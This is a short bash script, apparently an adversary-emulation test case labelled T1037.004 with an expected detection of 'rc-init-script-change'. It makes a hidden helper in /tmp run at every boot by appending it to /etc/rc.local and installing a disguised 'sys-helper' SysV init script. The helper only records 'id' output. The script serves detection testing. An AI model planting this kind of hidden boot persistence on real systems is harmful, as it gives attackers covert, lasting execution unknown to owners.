#!/bin/bash
# Add a line to /etc/rc.local and drop a SysV init script that starts a hidden program at boot.
# technique: T1037.004
# expect: rc-init-script-change
set -eu
printf '#!/bin/sh\nid > /tmp/.rc-beacon\n' > /tmp/.rc-helper
chmod +x /tmp/.rc-helper
[ -e /etc/rc.local ] || printf '#!/bin/sh -e\n' > /etc/rc.local
echo '/tmp/.rc-helper &' >> /etc/rc.local
chmod +x /etc/rc.local
mkdir -p /etc/init.d
cat > /etc/init.d/sys-helper <<'INIT'
#!/bin/sh
### BEGIN INIT INFO
# Provides:          sys-helper
# Default-Start:     2 3 4 5
# Default-Stop:
### END INIT INFO
/tmp/.rc-helper
INIT
chmod 755 /etc/init.d/sys-helper
